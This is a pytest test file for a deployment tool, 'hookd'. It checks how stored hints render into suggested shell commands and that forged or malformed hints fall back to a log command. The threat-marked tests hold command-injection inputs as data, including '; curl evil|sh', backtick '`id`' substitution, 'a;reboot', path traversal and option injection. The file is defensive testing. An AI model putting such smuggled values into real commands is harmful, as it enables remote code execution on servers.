"""Hints as people read them, and the arguments that no hint shows."""

from datetime import UTC, datetime
from typing import Any

import pytest
from pydantic import ValidationError

from hookd.model.deployment import Deployment, Trigger
from hookd.model.hint import Hint, HintKind, LogOnlyHint, render_hint, stored_hint

ID = "shop-20260801T120000000-abcdef"


def shown(hint: object) -> str | None:
    """Return the text of a hint after its way through a record."""
    record = Deployment(id=ID, app="shop", trigger=Trigger.PUSH, created_at=datetime(2026, 8, 1, tzinfo=UTC))
    stored = record.model_dump(mode="json") | {"hint": hint}
    read = Deployment.model_validate(stored).hint
    return None if read is None else render_hint(read, "shop", ID)


def stored(hint: Hint) -> dict[str, Any]:
    return {"kind": hint.kind.value, "argument": hint.argument}


@pytest.mark.parametrize(
    ("hint", "text"),
    [
        (Hint(HintKind.DEPLOY), "hookd deploy shop"),
        (Hint(HintKind.SHOW_STATUS), "hookd status"),
        (Hint(HintKind.RUN_DOCTOR), "hookd doctor shop"),
        (Hint(HintKind.SHOW_WORKER_LOG), "journalctl --unit 'hookd-worker@*' --lines 50"),
        (Hint(HintKind.SHOW_LOG), f"hookd logs {ID}"),
        (Hint(HintKind.THAW), "hookd thaw shop"),
        (Hint(HintKind.UNPIN), "hookd unpin shop"),
        (Hint(HintKind.LIST_COMMITS, "main"), "git log --oneline origin/main"),
        (Hint(HintKind.NAME_COMMIT), "hookd rollback shop --to COMMIT"),
        (Hint(HintKind.EDIT_VARIABLES, "/etc/hookd/env/shop"), "sudoedit /etc/hookd/env/shop"),
        (Hint(HintKind.EDIT_VARIABLES, "/etc/hookd/env/shop.build"), "sudoedit /etc/hookd/env/shop.build"),
        (Hint(HintKind.FIX_PERMISSIONS), "sudo hookd permissions shop --fix"),
        (Hint(HintKind.SHOW_UNIT_LOG, "shop-blue.service"), "journalctl --unit shop-blue.service --lines 50"),
        (Hint(HintKind.SHOW_UNIT, "shop@1.service"), "systemctl status shop@1.service"),
        (Hint(HintKind.SHOW_CIRCUS, "ipc:///run/c.sock"), "circusctl --endpoint ipc:///run/c.sock status"),
        (Hint(HintKind.SHOW_CIRCUS, "tcp://127.0.0.1:55"), "circusctl --endpoint tcp://127.0.0.1:55 status"),
        (Hint(HintKind.SHOW_DISK_SPACE, "/srv/shop/releases"), "df -h /srv/shop/releases"),
        (Hint(HintKind.UNTRACK, "static/up"), "git rm -r --cached static/up"),
        (Hint(HintKind.RESTORE, "000012-1869b1db108b"), "sudo hookd restore shop 000012-1869b1db108b"),
        (Hint(HintKind.RESTORE_OWN, "000012-1869b1db108b"), "hookd restore shop 000012-1869b1db108b"),
        (Hint(HintKind.SET_KEY, "service.entry=…"), "sudo hookd app edit shop --set service.entry=…"),
        (
            Hint(HintKind.SET_KEY, 'shared.directories=\'["uploads", "var/data"]\''),
            'sudo hookd app edit shop --set shared.directories=\'["uploads", "var/data"]\'',
        ),
        (Hint(HintKind.SET_BUILD_VARIABLE, "KEY"), "sudo hookd env set --build shop KEY"),
        (Hint(HintKind.INSTALL_PACKAGE, "nodejs npm"), "sudo apt-get install nodejs npm"),
        (Hint(HintKind.EDIT_FILE, "/home/me/shop.toml"), "${EDITOR:-vi} /home/me/shop.toml"),
        (Hint(HintKind.RESTORE, "--yes"), f"hookd logs {ID}"),
        (Hint(HintKind.SET_BRANCH, "master"), "sudo hookd app edit shop --set branch=master"),
        (Hint(HintKind.SET_BRANCH, "a;reboot"), f"hookd logs {ID}"),
        (Hint(HintKind.SET_GIT_SECONDS, "600"), "sudo hookd app edit shop --set limits.git_seconds=600"),
        (Hint(HintKind.INSTALL_OWN_PYTHON, "3.13"), "uv python install 3.13"),
        (Hint(HintKind.INSTALL_OWN_PYTHON, "--help"), f"hookd logs {ID}"),
        (Hint(HintKind.CHOOSE_FILE, "req/prod.txt"), "sudo hookd app edit shop --set dependencies.file=req/prod.txt"),
        (Hint(HintKind.UNTRACK, ".env"), "git rm -r --cached .env"),
    ],
)
def test_hint_text(hint: Hint, text: str) -> None:
    assert shown(stored(hint)) == text


def test_every_kind_has_a_text() -> None:
    assert all(render_hint(Hint(kind), "shop", ID) for kind in HintKind)


@pytest.mark.threat(65)
@pytest.mark.parametrize(
    "hint",
    [
        Hint(HintKind.DEPLOY, "; curl evil|sh"),
        Hint(HintKind.THAW, "blog"),
        Hint(HintKind.SHOW_DISK_SPACE, "/srv `id`"),
        Hint(HintKind.SHOW_DISK_SPACE, "/srv/../etc"),
        Hint(HintKind.SHOW_DISK_SPACE, "/srv --output"),
        Hint(HintKind.SHOW_DISK_SPACE, "/srv\n"),
        Hint(HintKind.SHOW_DISK_SPACE),
        Hint(HintKind.SHOW_UNIT_LOG, "--vacuum-size=1.service"),
        Hint(HintKind.SHOW_UNIT, "-H evil.service"),
        Hint(HintKind.SHOW_CIRCUS, "tcp://evil status; id"),
        Hint(HintKind.UNTRACK, "--pathspec-from-file=x"),
        Hint(HintKind.UNTRACK, "../x y"),
        Hint(HintKind.SET_KEY, "repository=git@evil.example:x.git"),
        Hint(HintKind.SET_KEY, "service.entry=os:system"),
        Hint(HintKind.SET_KEY, "health.deadline=60 --set root=/"),
        Hint(HintKind.SET_KEY, "shared.directories='[\"a\"]'; id"),
        Hint(HintKind.SET_VARIABLE, "KEY; id"),
        Hint(HintKind.SET_BUILD_VARIABLE, "--restart"),
        Hint(HintKind.INSTALL_PACKAGE, "evil"),
        Hint(HintKind.INSTALL_NODE_PACKAGE, "evil"),
        Hint(HintKind.MAKE_EXECUTABLE, "--stdin"),
        Hint(HintKind.EDIT_FILE, "/etc/x; id"),
    ],
)
def test_forged_argument_leads_to_the_log(hint: Hint) -> None:
    assert shown(stored(hint)) == f"hookd logs {ID}"


@pytest.mark.parametrize("kind", ["", "uninstall", "sudo hookd uninstall", 7, ["deploy"]])
def test_unknown_kind_leads_to_the_log(kind: object) -> None:
    assert shown({"kind": kind}) == f"hookd logs {ID}"


@pytest.mark.threat(65)
@pytest.mark.parametrize(
    "hint",
    ["", "curl evil|sh", {"kind": "deploy", "argument": 7}, {"kind": "deploy", "argument": {"app": "x"}}, ["deploy"]],
)
def test_malformed_hint_is_refused(hint: object) -> None:
    with pytest.raises(ValidationError):
        shown(hint)


def test_record_without_hint() -> None:
    assert shown(None) is None


def test_root_command_stays_in_the_log() -> None:
    command = LogOnlyHint("sudo groupadd --system staff")
    assert render_hint(command, "shop", ID) == "sudo groupadd --system staff"
    assert stored_hint(command) == Hint(HintKind.SHOW_LOG)
    assert stored_hint(Hint(HintKind.DEPLOY)) == Hint(HintKind.DEPLOY)
    assert stored_hint(None) is None
